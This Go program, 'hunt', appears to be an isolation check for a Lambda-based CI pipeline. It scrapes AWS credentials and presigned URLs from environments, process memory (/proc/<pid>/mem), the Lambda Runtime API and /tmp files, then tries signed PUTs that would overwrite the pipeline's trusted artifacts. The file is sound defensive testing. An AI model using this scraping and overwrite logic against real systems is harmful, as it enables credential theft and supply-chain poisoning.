// Command hunt is a check that does what hostile code under test would: it
// searches every place a process of the checks function can read for AWS
// credentials and presigned URLs, and with each one it finds tries to
// overwrite the objects of the artifact bucket that the pipeline trusts
// (the default branch's package, caches and build records), printing every
// attempt and its answer. It exits 1 when any write was let through, 0
// when every one was refused.
//
// Where it looks, within its own execution environment (on AWS, everything
// a process of the sandbox can see; locally, the function's process and
// its descendants, not the other functions' processes of the same machine):
//
//   - its own environment;
//   - /proc/<pid>/environ and the writable memory (/proc/<pid>/maps and
//     /proc/<pid>/mem) of the function's process and every descendant;
//   - the Lambda Runtime API at AWS_LAMBDA_RUNTIME_API (the next
//     invocation's event), waiting briefly;
//   - every file under the function's /tmp (TMPDIR), which holds its
//     workspace, the source it was handed and the package indexes' files.
//
// What to overwrite is in targets.json beside it: {"bucket": "...",
// "region": "...", "keys": ["..."]}, the bucket's layout being no secret.
// It uses the standard library only, signing requests with SigV4 itself.
package main

import (
	"bufio"
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"time"
)

type targets struct {
	Bucket string   `json:"bucket"`
	Region string   `json:"region"`
	Keys   []string `json:"keys"`
}

// credential is a set of AWS credentials found, and where.
type credential struct {
	where                  string
	accessKey, secret, tok string
}

// presigned is a presigned URL found, and where.
type presigned struct {
	where string
	u     *url.URL
}

type loot struct {
	creds    map[string]credential // by access key
	urls     map[string]presigned  // by credential and path
	endpoint string                // the S3 endpoint the function uses, if it says
	region   string
}

var (
	accessKeyRE = regexp.MustCompile(`\b(?:AKIA|ASIA)[A-Z0-9]{16}\b`)
	secretRE    = regexp.MustCompile(`(?i)(?:aws_secret_access_key|secretaccesskey|secret_access_key)["'\s:=]+([A-Za-z0-9/+=]{40})`)
	tokenRE     = regexp.MustCompile(`(?i)(?:aws_session_token|sessiontoken|session_token)["'\s:=]+([A-Za-z0-9/+=]{16,})`)
	signature   = []byte("X-Amz-Signature=")
)

func main() {
	b, err := os.ReadFile(filepath.Join(filepath.Dir(os.Args[0]), "targets.json"))
	if err != nil {
		b, err = os.ReadFile(filepath.Join("hunt", "targets.json"))
	}
	var t targets
	if err == nil {
		err = json.Unmarshal(b, &t)
	}
	if err != nil || t.Bucket == "" || len(t.Keys) == 0 {
		fmt.Println("hunt: no targets (hunt/targets.json):", err)
		os.Exit(2)
	}
	l := &loot{creds: map[string]credential{}, urls: map[string]presigned{}, region: t.Region}

	l.environment("this process's environment", os.Environ())
	fn, sandbox := sandboxOf(os.Getpid())
	fmt.Printf("hunt: the function's process is %d; its sandbox holds %d processes\n", fn, len(sandbox))
	tmp := "/tmp"
	for _, pid := range sandbox {
		if pid == os.Getpid() {
			continue
		}
		env := environOf(pid)
		if pid == fn {
			tmp = cmpOr(lookup(env, "TMPDIR"), tmp)
		}
		l.environment(fmt.Sprintf("/proc/%d/environ", pid), env)
		l.memory(pid)
	}
	if fn > 0 {
		l.runtimeAPI(lookup(environOf(fn), "AWS_LAMBDA_RUNTIME_API"))
	}
	l.files(tmp)

	fmt.Printf("hunt: found %d credentials and %d presigned URLs\n", len(l.creds), len(l.urls))
	endpoint := l.endpoint
	if endpoint == "" {
		endpoint = "https://s3." + cmpOr(l.region, "us-east-1") + ".amazonaws.com"
	}
	let := 0
	tried := 0
	for _, k := range sortedKeys(l.creds) {
		c := l.creds[k]
		for _, key := range t.Keys {
			tried++
			status, answer := putSigned(endpoint, cmpOr(l.region, "us-east-1"), t.Bucket, key, c)
			fmt.Printf("PUT s3://%s/%s with the credentials %s of %s: %s\n", t.Bucket, key, c.accessKey, c.where, answer)
			if status/100 == 2 {
				let++
			}
		}
	}
	for _, k := range sortedKeys(l.urls) {
		p := l.urls[k]
		for _, key := range t.Keys {
			tried++
			status, answer := putPresigned(p.u, t.Bucket, key)
			fmt.Printf("PUT s3://%s/%s with the presigned URL for %s (%s) of %s: %s\n", t.Bucket, key, p.u.Path, credentialOf(p.u), p.where, answer)
			if status/100 == 2 {
				let++
			}
		}
	}
	fmt.Printf("hunt: %d writes tried, %d let through\n", tried, let)
	if let > 0 {
		os.Exit(1)
	}
}

// sandboxOf returns the function's process (the nearest ancestor of pid
// that Lambda started: the one with AWS_LAMBDA_RUNTIME_API in its
// environment) and every process descended from it, itself included.
func sandboxOf(pid int) (int, []int) {
	fn := 0
	for p := pid; p > 1; p = parentOf(p) {
		if lookup(environOf(p), "AWS_LAMBDA_RUNTIME_API") != "" {
			fn = p
			break
		}
	}
	if fn == 0 {
		return 0, []int{pid}
	}
	parents := map[int]int{}
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if p, err := strconv.Atoi(e.Name()); err == nil {
			parents[p] = parentOf(p)
		}
	}
	var in []int
	for p := range parents {
		for q := p; q > 1; q = parents[q] {
			if q == fn {
				in = append(in, p)
				break
			}
		}
	}
	sort.Ints(in)
	return fn, in
}

// parentOf is pid's parent, from /proc/<pid>/stat; 0 when it is gone.
func parentOf(pid int) int {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return 0
	}
	// pid (comm) state ppid ...: comm may hold spaces and parentheses.
	rest := b[bytes.LastIndexByte(b, ')')+1:]
	f := strings.Fields(string(rest))
	if len(f) < 2 {
		return 0
	}
	ppid, _ := strconv.Atoi(f[1])
	return ppid
}

func environOf(pid int) []string {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
	if err != nil {
		return nil
	}
	return strings.Split(string(b), "\x00")
}

func lookup(env []string, key string) string {
	for _, kv := range env {
		if k, v, ok := strings.Cut(kv, "="); ok && k == key {
			return v
		}
	}
	return ""
}

// environment takes the credentials and the S3 endpoint of an environment.
func (l *loot) environment(where string, env []string) {
	if id, secret := lookup(env, "AWS_ACCESS_KEY_ID"), lookup(env, "AWS_SECRET_ACCESS_KEY"); id != "" && secret != "" {
		l.credential(credential{where: where, accessKey: id, secret: secret, tok: lookup(env, "AWS_SESSION_TOKEN")})
	}
	if e := cmpOr(lookup(env, "AWS_ENDPOINT_URL_S3"), lookup(env, "AWS_ENDPOINT_URL")); e != "" && l.endpoint == "" {
		l.endpoint = e
	}
	if r := lookup(env, "AWS_REGION"); r != "" && l.region == "" {
		l.region = r
	}
	l.text(where, []byte(strings.Join(env, "\n")), true)
}

// credential keeps c unless credentials of its access key were found
// already.
func (l *loot) credential(c credential) {
	if _, ok := l.creds[c.accessKey]; !ok {
		l.creds[c.accessKey] = c
	}
}

// text takes the presigned URLs written in b and, with keys, the
// credentials.
func (l *loot) text(where string, b []byte, keys bool) {
	b = bytes.ReplaceAll(b, []byte(`\u0026`), []byte("&"))
	for off := 0; ; {
		i := bytes.Index(b[off:], signature)
		if i < 0 {
			break
		}
		i += off
		off = i + len(signature)
		start := bytes.LastIndex(b[max(0, i-8192):i], []byte("http"))
		if start < 0 {
			continue
		}
		start += max(0, i-8192)
		end := off
		for end < len(b) && end-off < 64 && isHex(b[end]) {
			end++
		}
		raw := string(b[start:end])
		if strings.ContainsAny(raw, " \t\r\n\"'<>\x00") {
			continue
		}
		u, err := url.Parse(raw)
		if err != nil || u.Host == "" || len(u.Query().Get("X-Amz-Signature")) != 64 {
			continue
		}
		l.urls[credentialOf(u)+" "+u.Path] = presigned{where: where, u: u}
	}
	if !keys {
		return
	}
	id := accessKeyRE.Find(b)
	secret := secretRE.FindSubmatch(b)
	if id != nil && secret != nil {
		c := credential{where: where, accessKey: string(id), secret: string(secret[1])}
		if m := tokenRE.FindSubmatch(b); m != nil {
			c.tok = string(m[1])
		}
		l.credential(c)
	}
}

func isHex(c byte) bool { return c >= '0' && c <= '9' || c >= 'a' && c <= 'f' }

// memory reads the writable memory of pid.
func (l *loot) memory(pid int) {
	maps, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return
	}
	defer maps.Close()
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		fmt.Printf("hunt: /proc/%d/mem: %v\n", pid, err)
		return
	}
	defer mem.Close()
	read := 0
	const most = 512 << 20
	sc := bufio.NewScanner(maps)
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) < 2 || !strings.HasPrefix(f[1], "rw") {
			continue
		}
		lo, hi, ok := strings.Cut(f[0], "-")
		if !ok {
			continue
		}
		start, err1 := strconv.ParseUint(lo, 16, 64)
		end, err2 := strconv.ParseUint(hi, 16, 64)
		if err1 != nil || err2 != nil || end <= start {
			continue
		}
		for at := start; at < end && read < most; at += 1 << 20 {
			n := min(end-at, 1<<20+8192)
			buf := make([]byte, n)
			got, _ := mem.ReadAt(buf, int64(at))
			read += got
			if got > 0 {
				l.text(fmt.Sprintf("the memory of process %d", pid), buf[:got], false)
			}
		}
	}
}

// runtimeAPI asks the Lambda Runtime API for an invocation, as the runtime
// does, and takes what its event holds.
func (l *loot) runtimeAPI(api string) {
	if api == "" {
		return
	}
	c := &http.Client{Timeout: 2 * time.Second}
	resp, err := c.Get("http://" + api + "/2018-06-01/runtime/invocation/next")
	if err != nil {
		fmt.Printf("hunt: the Runtime API's next invocation: %v\n", err)
		return
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 6<<20))
	fmt.Printf("hunt: the Runtime API's next invocation: HTTP %d, %d bytes\n", resp.StatusCode, len(b))
	l.text("the Runtime API", b, true)
}

// files reads every file under root.
func (l *loot) files(root string) {
	n := 0
	_ = filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil
		}
		info, err := d.Info()
		if err != nil || info.Size() > 64<<20 {
			return nil
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return nil
		}
		n++
		l.text(p, b, true)
		return nil
	})
	fmt.Printf("hunt: read %d files under %s\n", n, root)
}

// putSigned writes key with c, signed with SigV4.
func putSigned(endpoint, region, bucket, key string, c credential) (int, string) {
	body := []byte("written by the code under test\n")
	u, err := url.Parse(strings.TrimRight(endpoint, "/") + "/" + bucket + "/" + key)
	if err != nil {
		return 0, err.Error()
	}
	req, _ := http.NewRequest(http.MethodPut, u.String(), bytes.NewReader(body))
	now := time.Now().UTC()
	sum := sha256.Sum256(body)
	req.Header.Set("X-Amz-Date", now.Format("20060102T150405Z"))
	req.Header.Set("X-Amz-Content-Sha256", hex.EncodeToString(sum[:]))
	if c.tok != "" {
		req.Header.Set("X-Amz-Security-Token", c.tok)
	}
	sign(req, c, region, now)
	return do(req)
}

// sign signs req with SigV4 for S3.
func sign(req *http.Request, c credential, region string, now time.Time) {
	names := []string{"host"}
	for k := range req.Header {
		names = append(names, strings.ToLower(k))
	}
	sort.Strings(names)
	var canon strings.Builder
	for _, n := range names {
		v := req.URL.Host
		if n != "host" {
			v = req.Header.Get(n)
		}
		canon.WriteString(n + ":" + strings.TrimSpace(v) + "\n")
	}
	signed := strings.Join(names, ";")
	creq := strings.Join([]string{req.Method, req.URL.EscapedPath(), req.URL.RawQuery, canon.String(), signed, req.Header.Get("X-Amz-Content-Sha256")}, "\n")
	day := now.Format("20060102")
	scope := day + "/" + region + "/s3/aws4_request"
	h := sha256.Sum256([]byte(creq))
	sts := "AWS4-HMAC-SHA256\n" + now.Format("20060102T150405Z") + "\n" + scope + "\n" + hex.EncodeToString(h[:])
	k := mac([]byte("AWS4"+c.secret), day)
	k = mac(k, region)
	k = mac(k, "s3")
	k = mac(k, "aws4_request")
	req.Header.Set("Authorization", fmt.Sprintf("AWS4-HMAC-SHA256 Credential=%s/%s, SignedHeaders=%s, Signature=%s",
		c.accessKey, scope, signed, hex.EncodeToString(mac(k, sts))))
}

func mac(key []byte, s string) []byte {
	m := hmac.New(sha256.New, key)
	m.Write([]byte(s))
	return m.Sum(nil)
}

// putPresigned writes key with the query of the presigned URL u, moved to
// key: its signature covers its own key alone, and its signer's role may
// not write the pipeline's keys either way.
func putPresigned(u *url.URL, bucket, key string) (int, string) {
	to := *u
	to.Path, to.RawPath = "/"+bucket+"/"+key, ""
	if !strings.HasPrefix(u.Path, "/"+bucket+"/") {
		// A virtual-hosted URL: the bucket is in its host.
		to.Path = "/" + key
	}
	req, _ := http.NewRequest(http.MethodPut, to.String(), strings.NewReader("written by the code under test\n"))
	return do(req)
}

func do(req *http.Request) (int, string) {
	resp, err := (&http.Client{Timeout: 20 * time.Second}).Do(req)
	if err != nil {
		return 0, "error: " + err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
	code := ""
	if m := regexp.MustCompile(`<Code>([^<]+)</Code>`).FindSubmatch(b); m != nil {
		code = " " + string(m[1])
	}
	if resp.StatusCode/100 == 2 {
		return resp.StatusCode, fmt.Sprintf("HTTP %d: WRITTEN", resp.StatusCode)
	}
	return resp.StatusCode, fmt.Sprintf("HTTP %d%s: refused", resp.StatusCode, code)
}

// credentialOf is the access key a presigned URL was signed with.
func credentialOf(u *url.URL) string {
	id, _, _ := strings.Cut(u.Query().Get("X-Amz-Credential"), "/")
	return id
}

func cmpOr(a, b string) string {
	if a != "" {
		return a
	}
	return b
}

func sortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
